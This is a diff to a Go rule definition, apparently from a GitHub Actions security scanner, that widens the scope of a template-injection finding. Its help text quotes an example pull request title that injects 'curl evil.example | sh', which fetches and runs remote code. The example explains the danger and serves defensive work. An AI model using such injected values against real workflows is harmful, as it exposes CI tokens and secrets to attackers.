@@ -10,7 +10,7 @@ import (
 var templateInjectionRule = finding.Rule{
 	ID:       "template-injection",
 	Severity: finding.SeverityHigh,
-	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ...) is expanded inside run: or an actions/github-script script:.",
+	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ..., or an env variable, matrix value, step or job output or action input carrying one; medium for workflow_dispatch/workflow_call inputs) is expanded inside run: or a script input such as actions/github-script script:.",
 	Fix:      "Pass the value through an environment variable (env: TITLE: ${{ github.event.pull_request.title }}) and use \"$TITLE\" in the script.",
 	Help: "`${{ }}` is substituted into the script text before the shell or JavaScript runs, so a pull request titled " +
 		"`a\"; curl evil.example | sh; \"` runs the attacker's command with the job's token and secrets (Ultralytics 2024, Nx 2025). " +
